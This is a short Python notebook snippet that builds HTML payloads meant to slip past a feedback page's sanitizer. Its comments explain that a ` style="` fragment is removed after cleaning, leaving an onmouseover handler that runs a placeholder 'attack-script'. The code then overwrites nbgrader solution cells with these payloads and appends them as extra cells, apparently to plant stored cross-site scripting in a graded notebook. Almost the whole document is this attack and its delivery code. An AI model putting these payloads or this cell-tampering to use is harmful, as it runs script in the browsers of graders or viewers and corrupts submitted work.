# attacks: the feedback page: an attribute that holds ` style="`, which is removed after cleaning
# success: the rest of the attribute becomes a handler
# %% notebook
titles = [
    "<b title='x style=\"'>a</b> <i title=\"' onmouseover=attack-script \">b</i>",
    '<div><b title="x style=">A" B" onmouseover=attack-script z</b></div>',
    "<a href='http://x/\" style=\"'>a</a> <i title=\"' onmouseover=attack-script \">b</i>",
]
for cell in notebook["cells"]:
    if cell["cell_type"] == "markdown" and cell["metadata"].get("nbgrader", {}).get("solution"):
        cell["source"] = "\n\n".join(titles)
for number, text in enumerate(titles):
    notebook["cells"].append({
        "cell_type": "markdown", "id": f"more-{number}", "metadata": {}, "source": text})
